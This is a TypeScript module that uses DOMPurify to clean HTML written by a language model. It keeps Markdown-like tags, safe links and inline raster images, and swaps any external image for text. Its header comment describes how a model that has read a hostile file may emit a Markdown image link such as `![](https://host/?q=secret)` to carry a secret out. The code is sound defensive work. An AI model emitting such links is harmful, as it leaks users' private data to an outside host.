/**
 * Turns HTML that a model had a hand in into nodes that can do nothing: no script, no style, no form, and
 * nothing that asks the network for anything by being shown. A model that has read a hostile file may
 * write `![](https://host/?q=secret)`; loading that picture would carry the secret out.
 */

import type { Config } from "dompurify";
import DOMPurify from "dompurify";

/** What Markdown can say. All else loses its tag and keeps its words. */
const TAGS = [
  ..."p br hr h1 h2 h3 h4 h5 h6 strong em b i s del ins sub sup mark small kbd abbr".split(" "),
  ..."blockquote ul ol li pre code samp var table thead tbody tr th td a img input".split(" "),
];

const CONFIG = {
  ALLOWED_TAGS: TAGS,
  ALLOWED_ATTR: ["href", "src", "alt", "title", "start", "align", "type", "checked", "class"],
  ALLOW_DATA_ATTR: false,
  ALLOW_ARIA_ATTR: false,
  RETURN_DOM_FRAGMENT: true,
} satisfies Config;

/** Raster pictures that are in the text itself. Not SVG: it can refer to other files. */
const INLINE_PICTURE = /^data:image\/(png|jpeg|gif|webp|avif);base64,[\w+/=\s]+$/i;
const OPENABLE = /^(https?:\/\/|mailto:)/i;

export interface Sanitiser {
  /** Nodes that may stand in the page. A picture that was not loaded leaves its description. */
  toFragment(html: string): DocumentFragment;
}

/** `describeImage` makes the words that stand in a blocked picture's place. */
export function createSanitiser(
  window: Window & typeof globalThis,
  describeImage: (alt: string) => string,
): Sanitiser {
  // A purifier of our own: hooks on the shared one would be state of the whole page.
  const purifier = DOMPurify(window);
  purifier.addHook("afterSanitizeAttributes", (element) => {
    if (element.hasAttribute("class")) keepLanguage(element);
    if (element.tagName === "A") keepHarmlessLink(element);
    if (element.tagName === "INPUT") keepTaskBox(element);
    if (element.tagName === "IMG") keepInlinePicture(element, describeImage);
    else element.removeAttribute("src");
  });
  return { toFragment: (html) => purifier.sanitize(html, CONFIG) };
}

/** The class of a code block is how Markdown names its language; any other could dress words up as ours. */
function keepLanguage(element: Element): void {
  const language = /(?:^|\s)(language-[\w+#.-]{1,30})(?:\s|$)/.exec(element.className)?.[1];
  if (language && element.tagName === "CODE") element.className = language;
  else element.removeAttribute("class");
}

function keepHarmlessLink(element: Element): void {
  const address = element.getAttribute("href") ?? "";
  // No scheme means this page's own origin, where `/api` is.
  if (!OPENABLE.test(address)) {
    element.removeAttribute("href");
    return;
  }
  element.setAttribute("target", "_blank");
  element.setAttribute("rel", "noopener noreferrer nofollow");
}

function keepTaskBox(element: Element): void {
  if (element.getAttribute("type") !== "checkbox") element.remove();
  else element.setAttribute("disabled", "");
}

function keepInlinePicture(element: Element, describeImage: (alt: string) => string): void {
  if (INLINE_PICTURE.test(element.getAttribute("src") ?? "")) return;
  const words = element.ownerDocument.createElement("samp");
  words.textContent = describeImage(element.getAttribute("alt") ?? "");
  // Taken off before anything else: the fragment must never hold an address that could be loaded.
  element.removeAttribute("src");
  element.replaceWith(words);
}
